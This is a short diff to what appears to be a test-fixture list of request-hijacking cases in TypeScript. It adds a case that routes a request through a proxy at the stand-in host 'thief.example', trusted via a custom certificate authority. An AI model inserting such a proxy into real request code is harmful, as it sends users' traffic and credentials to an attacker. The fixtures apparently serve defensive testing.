@@ -178,8 +178,8 @@ export const attacks: Attack[] = [
 			headers,
 		}),
 	),
-	elsewhere("a certificate that the workflow's own authority vouches for", 'https://sa.example', {
-		url: '/api/x',
+	elsewhere("a proxy that the workflow's own authority vouches for", 'https://sa.example', {
+		...{ url: '/api/x', proxy: 'http://thief.example:8080' },
 		agentOptions: { ca: '-----BEGIN CERTIFICATE-----' },
 	}),
 	elsewhere('a certificate that nobody checks, by options of the agent', 'https://sa.example', {
